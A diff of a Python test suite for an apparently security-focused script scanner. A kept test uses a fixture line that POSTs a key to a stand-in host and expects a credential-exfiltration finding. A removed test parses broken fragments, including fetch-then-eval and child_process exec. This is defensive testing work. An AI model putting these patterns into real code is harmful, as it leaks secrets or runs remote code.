@@ -285,24 +285,3 @@ def test_a_scan_reports_the_exfiltration_chain_of_a_script(tmp_path: Path) -> No
         "fetch('https://c.example.net/k', { method: 'POST', body: k });\n"
     )
     assert scan_errors(tmp_path, {"scripts/sync.js": script}) == {("CREDENTIAL_EXFILTRATION", "scripts/sync.js", 3)}
-
-
-def test_error_count_counts_every_error_and_missing_node_as_a_walk_does() -> None:
-    from skillgrade.rules.security.behaviour import javascript
-
-    fragments = [
-        "const x = ;\nfetch(url).then(r => r.text()).then(eval)",
-        "function f( {\n  return require('child_process').exec(cmd\n}",
-        "interface A { b: string }\nconst c: A = { b: 'x' } as A;\n... more here ...\n",
-        "<div>{items.map(i => <li>{i}</li>}</div>",
-        "import x from 'y'\nexport default {",
-        "ok();",
-    ]
-    counted = 0
-    for text in fragments:
-        for grammar in ("javascript", "typescript", "tsx"):
-            root = javascript._parser(grammar).parse(text.encode()).root_node
-            walked = sum(1 for node in javascript._preorder(root) if node.type == "ERROR" or node.is_missing)
-            assert javascript._error_count(root, grammar) == walked, (text, grammar)
-            counted += walked
-    assert counted > 10, "the fragments are broken: the comparison must see errors"
